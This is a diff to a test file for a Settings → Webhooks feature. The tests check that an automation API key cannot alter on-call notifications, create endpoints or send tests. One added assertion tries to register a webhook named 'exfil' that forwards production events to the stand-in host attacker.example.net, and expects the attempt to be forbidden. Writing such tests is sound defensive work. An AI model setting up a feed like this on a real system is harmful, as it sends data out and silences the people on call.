@@ -1,7 +1,7 @@
 // Lever break test (findings 2 and 6) of Settings → Webhooks: a rotation pressed ten times at once
 // rotates once and every secret it returns is the one stored; an edit that changes nothing writes
 // nothing; and an automation key, even with the admin role, cannot silence or redirect on-call's
-// notifications (edit, disable, delete, rotate), as it cannot revoke serving keys.
+// notifications (edit, disable, delete, rotate), nor add an endpoint or send tests, as it cannot revoke serving keys.
 import { beforeAll, describe, expect, it } from "vitest";
 import type { Principal } from "../auth/principal";
 import { getDb } from "../db/client";
@@ -63,6 +63,11 @@ describe("webhook levers", () => {
     await expect(key().webhooks.update({ id: endpoint.id, eventKinds: ["experiment.shipped"] })).rejects.toMatchObject(forbidden);
     await expect(key().webhooks.rotateSecret({ id: endpoint.id, expectSecretId: secretIdOf(was.secret) })).rejects.toMatchObject(forbidden);
     await expect(key().webhooks.remove({ id: endpoint.id })).rejects.toMatchObject(forbidden);
+    // Nor can it add a feed of production events to its own address, or send tests (re-break: it could, and only a person could remove it).
+    const endpoints = await getDb().webhookEndpoint.count();
+    await expect(key().webhooks.create({ name: "exfil", url: "https://attacker.example.net/x", format: "standard", eventKinds: ["alias.moved", "kill_switch", "rollback"] })).rejects.toMatchObject({ code: "FORBIDDEN", message: "only a signed-in person can add a webhook, not an API key" });
+    await expect(key().webhooks.sendTest({ id: endpoint.id })).rejects.toMatchObject({ code: "FORBIDDEN", message: "only a signed-in person can send a webhook test, not an API key" });
+    expect(await getDb().webhookEndpoint.count()).toBe(endpoints);
     expect(await row()).toEqual(was);
     expect(await getDb().auditLog.count({ where: { entityId: endpoint.id } })).toBe(audit);
     // Reading the list stays open to it (settings.write): the list carries no secret.
